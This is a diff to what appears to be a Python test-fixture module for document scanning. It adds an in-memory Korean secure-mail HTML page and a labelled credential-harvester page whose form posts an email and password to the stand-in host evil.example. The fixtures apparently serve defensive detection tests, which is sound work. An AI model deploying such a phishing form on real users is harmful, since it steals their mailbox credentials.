@@ -1,7 +1,9 @@
-"""Small real Office files built in memory for the document tests: OOXML zips and OLE2 compound files."""
+"""Small real Office files built in memory for the document tests: OOXML zips and OLE2 compound files; and two
+web pages sent as attachments: a 보안메일 statement that sends nothing and a log-in page that posts elsewhere."""
 
 from __future__ import annotations
 
+import base64
 import io
 import struct
 import zipfile
@@ -79,3 +81,22 @@ def ole(*storages: tuple[str, ...]) -> bytes:
     )
     assert len(header) == 512
     return header + fat_sector + directory
+
+
+# A Korean 보안메일: the statement travels encrypted in the page and a script decrypts it in the browser once the
+# reader types a birth date or a business number. Nothing is sent anywhere.
+SECURE_STATEMENT = (
+    '<html><head><meta charset="utf-8"><title>보안메일</title></head><body>'
+    "<p>사업자등록번호 10자리를 입력하세요.</p>"
+    '<input type="password" id="k" maxlength="10"><button onclick="openStatement()">확인</button>'
+    '<div id="doc"></div><script>var sealed="' + base64.b64encode(bytes(range(256)) * 8).decode() + '";'
+    "function openStatement(){var key=document.getElementById('k').value;"
+    "document.getElementById('doc').innerHTML=decrypt(atob(sealed),key);}</script></body></html>"
+)
+# The same kind of page as a credential harvester: what is typed goes to another server.
+HARVESTER = (
+    "<html><body><p>Enter your mailbox password to view the invoice.</p>"
+    '<form method="POST" action="http://evil.example/login.php"><input name="email">'
+    '<input type="password" name="pass"><button>View</button></form>'
+    "<script>document.forms[0].pass.focus();</script></body></html>"
+)
